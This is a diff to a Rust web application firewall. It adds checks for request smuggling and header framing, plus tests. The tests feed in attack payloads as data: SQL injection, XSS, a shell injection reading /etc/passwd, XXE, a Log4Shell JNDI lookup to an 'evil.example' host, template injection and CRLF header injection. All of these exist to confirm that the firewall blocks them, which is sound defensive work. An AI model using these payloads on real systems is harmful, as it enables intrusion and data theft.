@@ -45,6 +45,8 @@ pub struct Verdict {
 pub struct Inspection {
     exclusions: Vec<usize>,
     matched: Vec<(usize, String)>,
+    /// Request-framing checks that fired: rule id, score, location.
+    framing: Vec<(u32, u32, String)>,
     csrf: Option<CsrfViolation>,
     csrf_exempt: bool,
     body_too_large: bool,
@@ -53,10 +55,12 @@ pub struct Inspection {
 impl Inspection {
     /// The anomaly score so far.
     pub fn score(&self, config: &Config) -> u32 {
-        self.matched
+        let signatures: u32 = self
+            .matched
             .iter()
             .map(|(r, _)| config.rules.rules()[*r].score)
-            .sum()
+            .sum();
+        signatures + self.framing.iter().map(|(_, score, _)| score).sum::<u32>()
     }
 }
 
@@ -199,7 +203,48 @@ impl Waf {
     /// Request smuggling and header-framing signals that are not about a
     /// value's content.
     fn protocol_checks(&self, head: &RequestHead<'_>, inspection: &mut Inspection) {
-        let _ = (head, inspection);
+        if self.config.framing_rules.is_empty() {
+            return;
+        }
+        let count = |name: &str| {
+            head.headers
+                .iter()
+                .filter(|(n, _)| n.eq_ignore_ascii_case(name))
+                .count()
+        };
+        let te = head.header("transfer-encoding");
+        let mut fired: Vec<(u32, String)> = Vec::new();
+        if te.is_some() && count("content-length") > 0 {
+            fired.push((10001, "header:transfer-encoding".into()));
+        }
+        if let Some(te) = te {
+            if !te.trim().eq_ignore_ascii_case("chunked") || count("transfer-encoding") > 1 {
+                fired.push((10002, "header:transfer-encoding".into()));
+            }
+        }
+        if let Some((name, _)) = head.headers.iter().find(|(n, v)| {
+            n.bytes()
+                .chain(v.bytes())
+                .any(|b| matches!(b, b'\r' | b'\n' | 0))
+        }) {
+            fired.push((10003, format!("header:{}", name.to_ascii_lowercase())));
+        }
+        if count("content-length") > 1 || count("host") > 1 {
+            fired.push((10004, "headers".into()));
+        }
+        for (id, location) in fired {
+            let Some((_, score)) = self.config.framing_rules.iter().find(|(r, _)| *r == id) else {
+                continue;
+            };
+            let header = location.strip_prefix("header:").unwrap_or("");
+            let excluded = inspection.exclusions.iter().any(|i| {
+                let e = &self.config.exclusions[*i];
+                e.covers(id, "protocol") && (!e.is_targeted() || e.headers.contains(header))
+            });
+            if !excluded {
+                inspection.framing.push((id, *score, location));
+            }
+        }
     }
 
     /// The decision so far.
@@ -207,20 +252,28 @@ impl Waf {
         let rules = self.config.rules.rules();
         let score = inspection.score(&self.config);
         let matches: Vec<WafMatch> = inspection
-            .matched
+            .framing
             .iter()
-            .take(MAX_LISTED_MATCHES)
-            .map(|(r, location)| WafMatch {
+            .map(|(id, _, location)| WafMatch {
+                rule_id: *id,
+                family: "protocol".into(),
+                location: location.clone(),
+            })
+            .chain(inspection.matched.iter().map(|(r, location)| WafMatch {
                 rule_id: rules[*r].id,
                 family: rules[*r].family.clone(),
                 location: location.clone(),
-            })
+            }))
+            .take(MAX_LISTED_MATCHES)
             .collect();
         let mut families: Vec<String> = inspection
             .matched
             .iter()
             .map(|(r, _)| rules[*r].family.clone())
             .collect();
+        if !inspection.framing.is_empty() {
+            families.push("protocol".into());
+        }
         families.sort();
         families.dedup();
         let block = self.config.mode == Mode::Block;
@@ -283,5 +336,380 @@ impl Waf {
             }
         }
         self.verdict(&inspection)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn waf(json: &str) -> Waf {
+        Waf::new(Config::from_json(json.as_bytes()).unwrap())
+    }
+
+    fn hdrs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    fn run(
+        waf: &Waf,
+        method: &str,
+        path: &str,
+        headers: &[(&str, &str)],
+        body: Option<&str>,
+    ) -> Verdict {
+        let headers = hdrs(headers);
+        let head = RequestHead {
+            method,
+            path,
+            authority: "api.example.com",
+            route_name: "",
+            headers: &headers,
+        };
+        waf.inspect(&head, body.map(str::as_bytes))
+    }
+
+    fn ids(v: &Verdict) -> Vec<u32> {
+        v.decision.matches.iter().map(|m| m.rule_id).collect()
+    }
+
+    const SQLI: &str = "/items?id=1%27%20OR%20%271%27%3D%271";
+
+    #[test]
+    fn attacks_are_blocked_with_their_location() {
+        let w = waf("{}");
+        let v = run(&w, "GET", SQLI, &[], None);
+        assert!(
+            matches!(v.action, Action::Refuse { status: 403, .. }),
+            "{v:?}"
+        );
+        assert_eq!(v.decision.action, "blocked");
+        assert!(v.decision.score >= 5);
+        assert!(v
+            .decision
+            .matches
+            .iter()
+            .any(|m| m.family == "sqli" && m.location == "args:id"));
+        assert_eq!(v.families, vec!["sqli".to_string()]);
+        let v = run(
+            &w,
+            "GET",
+            "/search?q=shoes&page=2",
+            &[("user-agent", "Mozilla/5.0")],
+            None,
+        );
+        assert_eq!(v.action, Action::Allow);
+        assert_eq!(v.decision.action, "allowed");
+        assert_eq!(v.decision.score, 0);
+    }
+
+    #[test]
+    fn every_body_kind_is_inspected() {
+        let w = waf(r#"{"csrf":{"enabled":false}}"#);
+        let cases: &[(&str, &str)] = &[
+            ("application/json", r#"{"a":{"b":["<script>alert(1)</script>"]}}"#),
+            ("application/x-www-form-urlencoded", "name=x&cmd=%3Bcat%20%2Fetc%2Fpasswd"),
+            (
+                "multipart/form-data; boundary=zz",
+                "--zz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' UNION SELECT password FROM users--\r\n--zz--\r\n",
+            ),
+            (
+                "application/xml",
+                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            ),
+            ("text/plain", "${jndi:ldap://evil.example/a}"),
+        ];
+        for (ct, body) in cases {
+            let v = run(&w, "POST", "/api", &[("content-type", ct)], Some(body));
+            assert!(
+                matches!(v.action, Action::Refuse { status: 403, .. }),
+                "{ct}: {v:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn detect_mode_reports_without_refusing() {
+        let v = run(&waf(r#"{"mode":"detect"}"#), "GET", SQLI, &[], None);
+        assert_eq!(v.action, Action::Allow);
+        assert_eq!(v.decision.action, "detected");
+        assert!(!v.decision.matches.is_empty());
+    }
+
+    #[test]
+    fn the_threshold_decides() {
+        let v = run(
+            &waf(r#"{"anomaly_threshold": 1000}"#),
+            "GET",
+            SQLI,
+            &[],
+            None,
+        );
+        assert_eq!(v.action, Action::Allow);
+        assert_eq!(v.decision.action, "allowed");
+        assert!(v.decision.score > 0, "matches are still reported");
+    }
+
+    #[test]
+    fn exclusions_turn_off_rules_families_and_named_values() {
+        let base = run(&waf("{}"), "GET", SQLI, &[], None);
+        let all_ids = ids(&base);
+        let rules_off = format!(
+            r#"{{"exclusions":[{{"match":{{"path":{{"prefix":"/items"}}}},"rules":{all_ids:?}}}]}}"#
+        );
+        assert_eq!(
+            run(&waf(&rules_off), "GET", SQLI, &[], None).action,
+            Action::Allow
+        );
+        // Only on the matching route.
+        assert!(matches!(
+            run(
+                &waf(&rules_off),
+                "GET",
+                &SQLI.replace("/items", "/other"),
+                &[],
+                None
+            )
+            .action,
+            Action::Refuse { .. }
+        ));
+        let family_off = r#"{"exclusions":[{"families":["sqli"]}]}"#;
+        assert_eq!(
+            run(&waf(family_off), "GET", SQLI, &[], None).action,
+            Action::Allow
+        );
+        let param_off = r#"{"exclusions":[{"parameters":["id"]}]}"#;
+        assert_eq!(
+            run(&waf(param_off), "GET", SQLI, &[], None).action,
+            Action::Allow
+        );
+        let other_param = r#"{"exclusions":[{"parameters":["q"]}]}"#;
+        assert!(matches!(
+            run(&waf(other_param), "GET", SQLI, &[], None).action,
+            Action::Refuse { .. }
+        ));
+        let header_off = r#"{"inspect_headers":["x-template"],"exclusions":[{"headers":["x-template"],"families":["template"]}]}"#;
+        let h = [("x-template", "{{ config.items() }}")];
+        let inspected = waf(r#"{"inspect_headers":["x-template"]}"#);
+        assert!(matches!(
+            run(&inspected, "GET", "/", &h, None).action,
+            Action::Refuse { .. }
+        ));
+        let w =
+            waf(&header_off.replacen("[\"x-template\"],\"families", "[\"x-other\"],\"families", 1));
+        assert!(matches!(
+            run(&w, "GET", "/", &h, None).action,
+            Action::Refuse { .. }
+        ));
+        assert_eq!(
+            run(&waf(header_off), "GET", "/", &h, None).action,
+            Action::Allow
+        );
+        let cookie_off = r#"{"exclusions":[{"cookies":["prefs"]}]}"#;
+        let c = [("cookie", "prefs=<script>alert(1)</script>")];
+        assert!(matches!(
+            run(&waf("{}"), "GET", "/", &c, None).action,
+            Action::Refuse { .. }
+        ));
+        assert_eq!(
+            run(&waf(cookie_off), "GET", "/", &c, None).action,
+            Action::Allow
+        );
+        let everything_off = r#"{"exclusions":[{"match":{"path":{"prefix":"/items"}}}]}"#;
+        let w = waf(everything_off);
+        assert_eq!(run(&w, "GET", SQLI, &[], None).action, Action::Allow);
+        let headers = hdrs(&[]);
+        let head = RequestHead {
+            method: "POST",
+            path: "/items",
+            authority: "h",
+            route_name: "",
+            headers: &headers,
+        };
+        assert!(!w.wants_body(&w.inspect_head(&head)));
+    }
+
+    #[test]
+    fn disabled_rules_and_families_are_not_compiled() {
+        let base = ids(&run(&waf("{}"), "GET", SQLI, &[], None));
+        let w = waf(&format!(r#"{{"disabled_rules":{base:?}}}"#));
+        assert_eq!(run(&w, "GET", SQLI, &[], None).decision.score, 0);
+        let w = waf(r#"{"disabled_families":["sqli"]}"#);
+        assert!(w.config.rules.rules().iter().all(|r| r.family != "sqli"));
+    }
+
+    #[test]
+    fn custom_rules_match_with_their_transforms_and_score() {
+        let w = waf(r#"{"custom_rules":[
+                {"id":100001,"family":"internal","targets":["headers"],"transforms":["url_decode","lowercase"],
+                 "phrases":["internal-only"],"severity":"warning"},
+                {"id":100002,"targets":["path"],"regex":"^/admin/","score":5}
+            ],"inspect_headers":["x-debug"]}"#);
+        let v = run(&w, "GET", "/", &[("x-debug", "INTERNAL%2DONLY")], None);
+        assert_eq!(ids(&v), vec![100001]);
+        assert_eq!(v.decision.score, 3);
+        assert_eq!(v.action, Action::Allow, "3 < 5");
+        let v = run(&w, "GET", "/admin/users", &[], None);
+        assert_eq!(ids(&v), vec![100002]);
+        assert!(matches!(v.action, Action::Refuse { .. }));
+        assert_eq!(v.decision.matches[0].family, "custom");
+    }
+
+    #[test]
+    fn paranoia_selects_rules() {
+        // A tag that is not dangerous by itself: only the paranoid catch-all sees it.
+        let value = "/q?x=%3Ccustom%3Ehello%3C%2Fcustom%3E";
+        assert_eq!(run(&waf("{}"), "GET", value, &[], None).decision.score, 0);
+        assert!(
+            run(&waf(r#"{"paranoia_level":2}"#), "GET", value, &[], None)
+                .decision
+                .score
+                > 0
+        );
+    }
+
+    #[test]
+    fn csrf_blocks_or_only_reports() {
+        let cross = [("origin", "https://evil.example")];
+        let v = run(
+            &waf("{}"),
+            "POST",
+            "/api/transfer",
+            &cross,
+            Some("amount=10"),
+        );
+        assert_eq!(
+            v.action,
+            Action::Refuse {
+                status: 403,
+                reason: "csrf_origin_mismatch".into()
+            }
+        );
+        assert_eq!(v.decision.action, "csrf_blocked");
+        let v = run(
+            &waf(r#"{"csrf":{"shadow":true}}"#),
+            "POST",
+            "/api/transfer",
+            &cross,
+            Some("amount=10"),
+        );
+        assert_eq!(v.action, Action::Allow);
+        assert_eq!(v.decision.action, "csrf_shadow");
+        assert_eq!(v.csrf, Some(CsrfViolation::OriginMismatch));
+        let exempt = r#"{"csrf":{"exempt":[{"path":{"prefix":"/webhooks/"}}]}}"#;
+        assert_eq!(
+            run(
+                &waf(exempt),
+                "POST",
+                "/webhooks/stripe",
+                &cross,
+                Some("a=1")
+            )
+            .action,
+            Action::Allow
+        );
+        let same = [("origin", "https://api.example.com")];
+        assert_eq!(
+            run(
+                &waf("{}"),
+                "POST",
+                "/api/transfer",
+                &same,
+                Some("amount=10")
+            )
+            .action,
+            Action::Allow
+        );
+        assert_eq!(
+            run(&waf("{}"), "GET", "/api", &cross, None).action,
+            Action::Allow
+        );
+    }
+
+    #[test]
+    fn body_limit_rejects_or_inspects_the_prefix() {
+        let big = format!("{}' UNION SELECT 1--", "a=1&".repeat(100));
+        let reject = waf(r#"{"max_body_bytes":64,"body_limit_action":"reject"}"#);
+        let v = run(
+            &reject,
+            "POST",
+            "/",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            Some(&big),
+        );
+        assert_eq!(
+            v.action,
+            Action::Refuse {
+                status: 413,
+                reason: "body_too_large".into()
+            }
+        );
+        // The attack lies beyond the inspected prefix.
+        let prefix = waf(r#"{"max_body_bytes":64}"#);
+        let v = run(
+            &prefix,
+            "POST",
+            "/",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            Some(&big),
+        );
+        assert_eq!(v.action, Action::Allow);
+        let small = waf(r#"{"max_body_bytes":4096}"#);
+        let v = run(
+            &small,
+            "POST",
+            "/",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            Some(&big),
+        );
+        assert!(matches!(v.action, Action::Refuse { status: 403, .. }));
+    }
+
+    #[test]
+    fn framing_signals() {
+        let w = waf("{}");
+        type Case<'a> = (&'a [(&'a str, &'a str)], Option<u32>);
+        let cases: &[Case<'_>] = &[
+            (
+                &[("content-length", "5"), ("transfer-encoding", "chunked")],
+                Some(10001),
+            ),
+            (&[("transfer-encoding", "chunked, identity")], Some(10002)),
+            (&[("transfer-encoding", "chunked")], None),
+            (&[("x-a", "1\r\nSet-Cookie: a=b")], Some(10003)),
+            (&[("content-length", "5")], None),
+        ];
+        for (headers, want) in cases {
+            let v = run(&w, "GET", "/", headers, None);
+            let framing: Vec<u32> = ids(&v)
+                .into_iter()
+                .filter(|id| (10001..10005).contains(id))
+                .collect();
+            match want {
+                Some(id) => assert!(framing.contains(id), "{headers:?}: {framing:?}"),
+                None => assert!(framing.is_empty(), "{headers:?}: {framing:?}"),
+            }
+        }
+        let off = waf(r#"{"disabled_rules":[10001]}"#);
+        let v = run(
+            &off,
+            "GET",
+            "/",
+            &[("content-length", "5"), ("transfer-encoding", "chunked")],
+            None,
+        );
+        assert!(!ids(&v).contains(&10001));
+    }
+
+    #[test]
+    fn the_decision_serializes_for_the_audit_log() {
+        let v = run(&waf("{}"), "GET", SQLI, &[], None);
+        let json: serde_json::Value = serde_json::to_value(&v.decision).unwrap();
+        assert_eq!(json["action"], "blocked");
+        assert!(json["score"].as_u64().unwrap() >= 5);
+        assert_eq!(json["matches"][0]["location"], "args:id");
     }
 }
